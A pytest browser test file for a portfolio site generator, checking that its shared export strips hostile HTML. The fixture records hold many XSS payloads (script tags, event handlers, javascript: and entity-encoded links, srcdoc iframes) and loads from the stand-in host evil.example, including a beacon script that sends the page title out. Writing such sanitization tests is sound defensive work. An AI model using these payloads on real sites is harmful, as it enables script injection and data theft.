"""A share made from records full of scripts, handlers and outside URLs, opened in Chromium from
file:// and over HTTP: no dialog opens and nothing is asked of any other host.

The project says ``raw_html: true`` (its own site keeps raw HTML); the share must clean it all the
same. Every payload calls ``alert``/``confirm``/``prompt`` or loads from ``evil.example``, so a
payload that survived would show up as a dialog or as a request, which the page reports here
(other hosts' requests are aborted before they leave the machine, and still counted).
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator
from urllib.parse import urlsplit

import pytest

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parents[2]
AS_OF = "2026-11-22"
PROFILE = "northshire-county-council"  # the example's profile: Brookfield House, from 2026-01-01
MISSING_IMAGE = "pf-missing.png"  # what is left of an image whose error handler was removed

HOSTILE_EVIDENCE = f"""\
---
id: EV-901
title: Night staffing spot check, March 2026
service: brookfield-house
date: 2026-03-10
category: processes
kind: spot check
collected_by: Quality lead
quality_statements: [safe-and-effective-staffing]
---
The spot check found every night shift covered.

<script>alert("script")</script>

<img src="{MISSING_IMAGE}" onerror="alert('img onerror')" alt="missing">

<svg onload="alert('svg onload')"><circle cx="5" cy="5" r="4"/></svg>

<details open ontoggle="confirm('details ontoggle')"><summary>Details</summary>Body.</details>

<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>

<iframe src="javascript:alert('iframe src')"></iframe>

A paragraph with a handler.
{{: onmouseover="alert('attr_list')" onclick="alert('attr_list click')" }}

<a href="javascript:alert('raw link')">raw link</a> and [markdown link](javascript:prompt('markdown%20link'))
and <a href="JaVaScRiPt&#58;alert('entity link')">entity link</a>.

<input autofocus onfocus="alert('autofocus')">

<form id="pf-form" action="https://evil.example/form" method="post"><input name="q" value="x"></form>
<script>document.getElementById("pf-form").submit()</script>

<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">
"""

HOSTILE_MINUTES = """\
---
id: MTG-900
title: Extraordinary governance meeting, March 2026
date: 2026-03-12
forum: Extraordinary governance meeting
chair: Nominated individual
attendees: [Registered manager, Quality lead]
---
**1. Night staffing.** Agreed to keep the permanent night team.

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">

<link rel="stylesheet" href="https://evil.example/link.css">
<link rel="prefetch" href="https://evil.example/prefetch">

<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/style.png) }</style>

<p style="background-image:url(https://evil.example/attribute.png)">Styled paragraph.</p>

<img srcset="https://evil.example/srcset.png 1x" alt="srcset">
![outside image](https://evil.example/markdown.png) <img src="//evil.example/protocol-relative.png" alt="x">

<svg><image href="https://evil.example/svg-image.png" width="9" height="9"/></svg>

<video poster="https://evil.example/poster.png" autoplay muted><source src="https://evil.example/video.mp4"></video>

<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">

<audio src="https://evil.example/audio.mp3" autoplay></audio>

<script>new Image().src = "https://evil." + "example/beacon.png?" + document.title</script>
"""

PAGES = ("evidence/ev-901.html", "meetings/mtg-900.html", "index.html")


@pytest.fixture(scope="module")
def hostile_share(browser_available, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example with the two hostile records, ``raw_html: true``, shared by the real command
    and unpacked from its zip. Returns the unpacked share folder."""
    root = tmp_path_factory.mktemp("hostile-share")
    project = root / "example"
    project.mkdir()
    for name in ("content", "site_config"):
        shutil.copytree(REPO / name, project / name)
    shutil.copyfile(REPO / "mkdocs.yml", project / "mkdocs.yml")
    (project / "content" / "evidence" / "ev-901.md").write_text(HOSTILE_EVIDENCE, encoding="utf-8")
    (project / "content" / "meetings" / "mtg-900.md").write_text(HOSTILE_MINUTES, encoding="utf-8")
    config = project / "site_config" / "portfolio.yml"
    config.write_text(config.read_text(encoding="utf-8") + "raw_html: true\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "generator.cli", "--project", str(project), "share", PROFILE, "--as-of", AS_OF],
        cwd=project, capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0, f"share failed ({result.returncode}):\n{result.stdout}\n{result.stderr}"
    unpacked = root / "unzipped"
    with zipfile.ZipFile(project / "share" / f"{PROFILE}.zip") as archive:
        archive.extractall(unpacked)
    folder = unpacked / PROFILE
    for rel in PAGES:
        assert (folder / rel).is_file(), rel
    return folder


@pytest.fixture(scope="module")
def hostile_share_url(hostile_share: Path, folder_server) -> Iterator[str]:
    """``http://127.0.0.1:PORT/`` serving the unpacked share."""
    with folder_server(hostile_share) as url:
        yield url


@dataclass
class Seen:
    """What the pages did: dialogs opened, every request, and those to another host."""

    allow_file: bool
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def local(self, url: str) -> bool:
        parts = urlsplit(url)
        if parts.scheme in ("data", "blob", "about"):
            return True
        if parts.scheme == "file":
            return self.allow_file
        return parts.scheme in ("http", "https") and parts.hostname in ("127.0.0.1", "localhost")


def visit(browser, base: str, allow_file: bool) -> Seen:
    """Open each page, focus and hover and click what a payload hid in, search, and report."""
    seen = Seen(allow_file)
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.set_default_timeout(10_000)

    def on_dialog(dialog) -> None:
        seen.dialogs.append(f"{dialog.type}: {dialog.message} on {page.url}")
        dialog.dismiss()

    def on_request(request) -> None:
        seen.requests.append(request.url)
        if not seen.local(request.url):
            seen.elsewhere.append(request.url)

    def guard(route) -> None:
        if seen.local(route.request.url):
            route.continue_()
        else:
            route.abort("blockedbyclient")  # never leaves the machine; still counted above

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    page.on("pageerror", lambda exc: seen.errors.append(f"{page.url}: {exc}"))
    page.route("**/*", guard)
    try:
        for rel in PAGES:
            page.goto(base + rel, wait_until="load")
            page.wait_for_load_state("networkidle")  # a refresh or a late request would come now
            assert page.url == base + rel, f"{rel} went to {page.url}"
            if rel == "evidence/ev-901.html":
                article = page.locator("article")
                article.get_by_text("A paragraph with a handler.").hover()
                article.get_by_text("A paragraph with a handler.").click()
                for name in ("raw link", "markdown link", "entity link"):
                    link = article.get_by_text(name, exact=True)
                    assert link.get_attribute("href") is None, name
                    link.click()
                assert page.url == base + rel
        box = page.locator(".md-search__input")
        box.click()
        box.press_sequentially("night staffing", delay=20)
        page.locator(".md-search-result__item").first.wait_for(timeout=15_000)
        page.wait_for_load_state("networkidle")
    finally:
        context.close()
    return seen


def test_hostile_share_from_file_url_opens_no_dialog_and_asks_no_other_host(browser, hostile_share):
    seen = visit(browser, hostile_share.as_uri() + "/", allow_file=True)
    assert seen.requests and all(urlsplit(u).scheme in ("file", "data") for u in seen.requests), seen.requests
    assert seen.dialogs == []
    assert seen.elsewhere == []
    assert seen.errors == []


def test_hostile_share_over_http_opens_no_dialog_and_asks_no_other_host(browser, hostile_share_url):
    seen = visit(browser, hostile_share_url, allow_file=False)
    assert any(u.startswith(hostile_share_url + "assets/javascripts/bundle.") for u in seen.requests), seen.requests
    assert seen.dialogs == []
    assert seen.elsewhere == []
    assert seen.errors == []


def test_the_watch_sees_a_dialog_and_a_request_elsewhere(browser, hostile_share):
    """The checks above are not blind: a page that does open a dialog and ask another host is seen."""
    page_path = hostile_share.parent / "not-cleaned.html"
    page_path.write_text(
        '<!doctype html><title>x</title><img src="https://evil.example/x.png"><script>alert("seen")</script>',
        encoding="utf-8",
    )
    seen = Seen(allow_file=True)
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda d: (seen.dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: None if seen.local(r.url) else seen.elsewhere.append(r.url))
    page.route("**/*", lambda route: route.continue_() if seen.local(route.request.url) else route.abort("blockedbyclient"))
    try:
        page.goto(page_path.as_uri(), wait_until="load")
    finally:
        context.close()
    assert seen.dialogs == ["seen"]
    assert seen.elsewhere == ["https://evil.example/x.png"]
